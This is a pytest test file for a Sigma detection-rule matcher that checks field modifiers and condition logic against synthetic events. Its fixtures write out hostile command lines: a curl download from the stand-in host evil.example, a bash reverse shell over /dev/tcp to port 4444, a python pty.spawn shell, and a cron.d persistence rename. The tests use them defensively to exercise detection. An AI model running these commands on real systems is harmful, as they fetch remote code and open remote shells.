# ruff: noqa: E501  (tables of rule text read best one case a line)
"""Every modifier and condition form against hand-built events: each case says what must match and what
must not, so a matcher that says yes (or no) to everything fails."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest
from tests.engines.sigma.build import connect, exec_event, file_event, rule, write_rules

from ringfence.engines.sigma import Logsource, load_directory, logsources_of
from ringfence.sdk import Event, FileActivityId

Match = Callable[[Event], bool]


@pytest.fixture
def compiled(tmp_path: Path) -> Callable[..., Match]:
    def build(detection: str, category: str = "process_creation", placeholders: dict | None = None) -> Match:
        d = write_rules(
            tmp_path / f"r{len(list(tmp_path.iterdir()))}", **{"r.yml": rule(detection, category=category)}
        )
        rules = load_directory(str(d), placeholders=placeholders)
        assert not rules.errors, rules.errors
        assert rules.active == 1

        def match(event: Event) -> bool:
            hits = [
                k for s in logsources_of(event) if s in rules.indexes for k in rules.indexes[s].match(event)
            ]
            return bool(hits)

        return match

    return build


CURL = exec_event("/usr/bin/curl", "curl -sSL http://evil.example/x.sh -o /tmp/x.sh")
BASH = exec_event("/usr/bin/bash", "bash -i >& /dev/tcp/10.1.2.3/4444 0>&1")
PY = exec_event("/usr/bin/python3", "python3 -c import pty;pty.spawn('/bin/sh')")
UPPER = exec_event("/usr/bin/CURL", "CURL HTTP://EVIL.EXAMPLE")

MODIFIERS = [
    # plain equality is case-insensitive and whole-value
    ("selection:\n  Image: /usr/bin/curl\ncondition: selection", [CURL, UPPER], [BASH]),
    ("selection:\n  Image: /usr/bin/cur\ncondition: selection", [], [CURL]),
    ("selection:\n  Image|contains: bin/cu\ncondition: selection", [CURL, UPPER], [BASH]),
    ("selection:\n  Image|startswith: /usr/bin/c\ncondition: selection", [CURL], [BASH, PY]),
    ("selection:\n  Image|endswith: /bash\ncondition: selection", [BASH], [CURL]),
    ("selection:\n  Image|endswith: /usr\ncondition: selection", [], [CURL]),
    ("selection:\n  Image|startswith: curl\ncondition: selection", [], [CURL]),
    # wildcards inside a value
    ("selection:\n  CommandLine: 'curl*evil*'\ncondition: selection", [CURL, UPPER], [BASH]),
    ("selection:\n  CommandLine: 'bash -? *'\ncondition: selection", [BASH], [CURL]),
    ("selection:\n  CommandLine: 'evil*'\ncondition: selection", [], [CURL]),
    # escaped wildcard is a literal star
    (
        r"selection:" "\n" r"  CommandLine|contains: 'a\*b'" "\ncondition: selection",
        [exec_event("/x", "a*b")],
        [exec_event("/x", "axxb")],
    ),
    # lists are OR, |all is AND
    (
        "selection:\n  CommandLine|contains:\n    - nothing-here\n    - /dev/tcp/\ncondition: selection",
        [BASH],
        [CURL],
    ),
    (
        "selection:\n  CommandLine|contains|all:\n    - /dev/tcp/\n    - '0>&1'\ncondition: selection",
        [BASH],
        [exec_event("/x", "cat /dev/tcp/x")],
    ),
    # |cased
    ("selection:\n  Image|cased: /usr/bin/curl\ncondition: selection", [CURL], [UPPER]),
    ("selection:\n  CommandLine|contains|cased: EVIL\ncondition: selection", [UPPER], [CURL]),
    # |neq: anything but the value (an absent field too)
    ("selection:\n  Image|neq: /usr/bin/curl\ncondition: selection", [BASH, exec_event("/x")], [CURL, UPPER]),
    ("selection:\n  Image|startswith|cased: /usr/bin/C\ncondition: selection", [UPPER], [CURL]),
    # regular expressions and their flags
    ("selection:\n  CommandLine|re: '/dev/tcp/\\d+\\.\\d+'\ncondition: selection", [BASH], [CURL]),
    ("selection:\n  CommandLine|re: 'EVIL'\ncondition: selection", [UPPER], [CURL]),
    ("selection:\n  CommandLine|re|i: 'EVIL'\ncondition: selection", [UPPER, CURL], [BASH]),
    (
        "selection:\n  CommandLine|re|s: 'a.b'\ncondition: selection",
        [exec_event("/x", ("a\nb",))],
        [exec_event("/x", "ab")],
    ),
    (
        "selection:\n  CommandLine|re|m: '^b$'\ncondition: selection",
        [exec_event("/x", ("a\nb",))],
        [exec_event("/x", "a b")],
    ),
    # encodings
    (
        "selection:\n  CommandLine|base64: 'evil'\ncondition: selection",
        [exec_event("/x", ("ZXZpbA==",))],
        [exec_event("/x", "echo ZXZpbA==")],
    ),
    (
        "selection:\n  CommandLine|base64offset|contains: 'http://evil'\ncondition: selection",
        [
            exec_event("/x", "echo aHR0cDovL2V2aWwuZXhhbXBsZQ== | base64 -d"),
            exec_event("/x", "echo IGh0dHA6Ly9ldmls | base64 -d"),
            exec_event("/x", "echo ICBodHRwOi8vZXZpbA | base64 -d"),
        ],
        [CURL],
    ),
    (
        "selection:\n  CommandLine|wide|contains: 'ab'\ncondition: selection",
        [exec_event("/x", ("a\x00b\x00",))],
        [exec_event("/x", "ab")],
    ),
    (
        "selection:\n  CommandLine|utf16le|contains: 'ab'\ncondition: selection",
        [exec_event("/x", ("a\x00b\x00",))],
        [exec_event("/x", "ab")],
    ),
    (
        "selection:\n  CommandLine|utf16be|contains: 'ab'\ncondition: selection",
        [exec_event("/x", ("\x00a\x00b",))],
        [exec_event("/x", "ab")],
    ),
    (
        "selection:\n  CommandLine|utf16|contains: 'ab'\ncondition: selection",
        [exec_event("/x", ("\ufeffa\x00b\x00",))],
        [exec_event("/x", ("a\x00b\x00",))],
    ),
    (
        "selection:\n  CommandLine|windash|contains: ' -exec '\ncondition: selection",
        [
            exec_event("/x", "find . -exec sh"),
            exec_event("/x", "find . /exec sh"),
            exec_event("/x", "find . \u2013exec sh"),
        ],
        [exec_event("/x", "find . exec sh")],
    ),
    # numbers, comparisons, CIDR
    (
        "selection:\n  DestinationPort: 4444\ncondition: selection",
        [connect("1.2.3.4", 4444)],
        [connect("1.2.3.4", 44444)],
    ),
    (
        "selection:\n  DestinationPort|lt: 1024\ncondition: selection",
        [connect("1.2.3.4", 80)],
        [connect("1.2.3.4", 1024)],
    ),
    (
        "selection:\n  DestinationPort|lte: 1024\ncondition: selection",
        [connect("1.2.3.4", 1024)],
        [connect("1.2.3.4", 1025)],
    ),
    (
        "selection:\n  DestinationPort|gt: 1024\ncondition: selection",
        [connect("1.2.3.4", 1025)],
        [connect("1.2.3.4", 1024)],
    ),
    (
        "selection:\n  DestinationPort|gte: 1024\ncondition: selection",
        [connect("1.2.3.4", 1024)],
        [connect("1.2.3.4", 1023)],
    ),
    (
        "selection:\n  DestinationIp|cidr: 10.0.0.0/8\ncondition: selection",
        [connect("10.9.8.7", 1)],
        [connect("11.0.0.1", 1)],
    ),
    (
        "selection:\n  DestinationIp|cidr: 'fd00::/8'\ncondition: selection",
        [connect("fd12::1", 1)],
        [connect("10.0.0.1", 1)],
    ),
    # exists, null, fieldref
    (
        "selection:\n  CurrentDirectory|exists: true\ncondition: selection",
        [CURL],
        [exec_event("/x", cwd=None)],
    ),
    (
        "selection:\n  CurrentDirectory|exists: false\ncondition: selection",
        [exec_event("/x", cwd=None)],
        [CURL],
    ),
    ("selection:\n  CurrentDirectory: null\ncondition: selection", [exec_event("/x", cwd=None)], [CURL]),
    (
        "selection:\n  Image|fieldref: ParentImage\ncondition: selection",
        [exec_event("/usr/bin/bash")],
        [CURL],
    ),
    (
        "selection:\n  Image|fieldref|endswith: CurrentDirectory\ncondition: selection",
        [exec_event("/tmp/w/x", cwd="/w/x")],
        [CURL],
    ),
    # keywords: a value without a field, found in any field's text
    ("keywords:\n  - '/dev/tcp/'\ncondition: keywords", [BASH], [CURL]),
    ("keywords:\n  - 'pty.spawn'\n  - 'nothing-at-all'\ncondition: keywords", [PY], [BASH]),
    (
        "keywords:\n  '|all':\n    - 'pty'\n    - 'spawn'\ncondition: keywords",
        [PY],
        [exec_event("/x", "pty only")],
    ),
]


@pytest.mark.parametrize(
    ("detection", "hits", "misses"), MODIFIERS, ids=[m[0].split("\n")[1].strip()[:40] for m in MODIFIERS]
)
def test_modifier_matches_what_it_says_and_nothing_else(
    compiled, detection: str, hits: list, misses: list
) -> None:
    match = compiled(
        detection, category="network_connection" if "Destination" in detection else "process_creation"
    )
    for event in hits:
        assert match(event), (detection, event)
    for event in misses:
        assert not match(event), (detection, event)


CONDITIONS = [
    (
        "a:\n  Image|endswith: /curl\nb:\n  CommandLine|contains: evil\ncondition: a and b",
        [CURL],
        [exec_event("/usr/bin/curl", "curl x")],
    ),
    ("a:\n  Image|endswith: /curl\nb:\n  Image|endswith: /bash\ncondition: a or b", [CURL, BASH], [PY]),
    ("a:\n  Image|endswith: /curl\ncondition: not a", [BASH, PY], [CURL]),
    (
        "a:\n  Image|endswith: /curl\nf:\n  CommandLine|contains: evil\ncondition: a and not f",
        [exec_event("/usr/bin/curl", "curl ok")],
        [CURL, BASH],
    ),
    (
        "a:\n  Image|endswith: /curl\nb:\n  Image|endswith: /bash\nc:\n  CommandLine|contains: '4444'\ncondition: (a or b) and c",
        [BASH],
        [CURL, exec_event("/usr/bin/bash", "bash")],
    ),
    (
        "a:\n  Image|endswith: /curl\nb:\n  Image|endswith: /bash\nc:\n  CommandLine|contains: '4444'\ncondition: a or (b and c)",
        [BASH, CURL],
        [exec_event("/usr/bin/bash", "bash")],
    ),
    (
        "sel_1:\n  Image|endswith: /curl\nsel_2:\n  Image|endswith: /bash\ncondition: 1 of sel_*",
        [CURL, BASH],
        [PY],
    ),
    (
        "sel_1:\n  Image|endswith: /curl\nsel_2:\n  CommandLine|contains: evil\ncondition: all of sel_*",
        [CURL],
        [exec_event("/usr/bin/curl", "curl x")],
    ),
    (
        "a:\n  Image|endswith: /curl\nb:\n  CommandLine|contains: evil\ncondition: all of them",
        [CURL],
        [
            UPPER.__class__(
                header=UPPER.header, activity=UPPER.activity, process=exec_event("/usr/bin/curl", "x").process
            )
        ],
    ),
    (
        "a:\n  Image|endswith: /nope\nb:\n  CommandLine|contains: '/dev/tcp'\ncondition: 1 of them",
        [BASH],
        [CURL],
    ),
    (
        "a:\n  Image|endswith: /curl\nf_1:\n  CommandLine|contains: evil\nf_2:\n  CommandLine|contains: '-o'\ncondition: a and not 1 of f_*",
        [exec_event("/usr/bin/curl", "curl x")],
        [CURL],
    ),
    (
        "a:\n  Image|endswith: /curl\nf_1:\n  CommandLine|contains: evil\nf_2:\n  CommandLine|contains: nope\ncondition: a and not all of f_*",
        [CURL],
        [exec_event("/usr/bin/bash")],
    ),
    # a list of maps is OR; the keys of one map are AND
    (
        "a:\n  - Image|endswith: /curl\n    CommandLine|contains: nope\n  - Image|endswith: /bash\ncondition: a",
        [BASH],
        [CURL],
    ),
    # several conditions are OR-ed
    (
        "a:\n  Image|endswith: /curl\nb:\n  Image|endswith: /bash\ncondition:\n  - a\n  - b",
        [CURL, BASH],
        [PY],
    ),
]


@pytest.mark.parametrize(
    ("detection", "hits", "misses"), CONDITIONS, ids=[c[0].split("condition: ")[-1][:40] for c in CONDITIONS]
)
def test_condition_form_combines_selections_as_written(
    compiled, detection: str, hits: list, misses: list
) -> None:
    match = compiled(detection)
    for event in hits:
        assert match(event), (detection, event)
    for event in misses:
        assert not match(event), (detection, event)


def test_expand_placeholder_takes_its_values_from_settings(compiled) -> None:
    match = compiled(
        "a:\n  User|expand: '%admins%'\ncondition: a", placeholders={"admins": ["alice", "root"]}
    )
    assert match(exec_event("/x", user="alice"))
    assert match(exec_event("/x", user="root"))
    assert not match(exec_event("/x", user="bob"))


def test_placeholder_without_values_is_a_load_error_naming_the_rule(tmp_path: Path) -> None:
    d = write_rules(
        tmp_path,
        **{
            "p.yml": rule(
                "a:\n  User|expand: '%admins%'\ncondition: a", rule_id="1d4a0a61-0000-4000-8000-000000000001"
            )
        },
    )
    rules = load_directory(str(d))
    assert rules.active == 0
    (issue,) = rules.errors
    assert issue.rule == "1d4a0a61-0000-4000-8000-000000000001" and "%admins%" in issue.message


@pytest.mark.parametrize(
    ("activity", "new_path", "sources"),
    [
        (FileActivityId.CREATE, None, {Logsource.FILE_EVENT}),
        (FileActivityId.RENAME, "/etc/cron.d/evil", {Logsource.FILE_EVENT, Logsource.FILE_RENAME}),
        (FileActivityId.DELETE, None, {Logsource.FILE_DELETE}),
        (FileActivityId.CLOSE_WRITE, None, {Logsource.FILE_EVENT, Logsource.FILE_CHANGE}),
        (FileActivityId.OPEN, None, set()),
    ],
)
def test_file_activity_reaches_the_sigma_logsources_it_belongs_to(activity, new_path, sources) -> None:
    assert set(logsources_of(file_event("/tmp/a", activity, new_path=new_path))) == sources


def test_rename_matches_file_event_rules_by_its_new_name(compiled) -> None:
    match = compiled("a:\n  TargetFilename|startswith: /etc/cron.d/\ncondition: a", category="file_event")
    assert match(file_event("/tmp/x", FileActivityId.RENAME, new_path="/etc/cron.d/evil"))
    assert match(file_event("/etc/cron.d/evil"))
    assert not match(file_event("/etc/cron.d/evil", FileActivityId.OPEN))
    assert not match(file_event("/etc/cron.daily/x", FileActivityId.RENAME, new_path="/tmp/x"))


def test_accept_is_not_initiated_and_connect_is(compiled) -> None:
    match = compiled(
        "a:\n  Initiated: 'true'\n  DestinationPort: 22\ncondition: a", category="network_connection"
    )
    assert match(connect("1.2.3.4", 22))
    assert not match(connect("1.2.3.4", 22, syscall="accept"))


def test_missing_field_is_absent_never_an_error(compiled) -> None:
    match = compiled(
        "a:\n  ParentImage|endswith: /bash\nf:\n  ParentCommandLine|contains: x\ncondition: a or not f"
    )
    orphan = exec_event("/usr/bin/curl", parent_exe=None)
    assert match(orphan)  # no parent: `not f` holds, nothing raises
    match_cmp = compiled("a:\n  DestinationPort|gt: 10\ncondition: a", category="network_connection")
    assert not match_cmp(file_event("/tmp/x"))  # another logsource: never evaluated
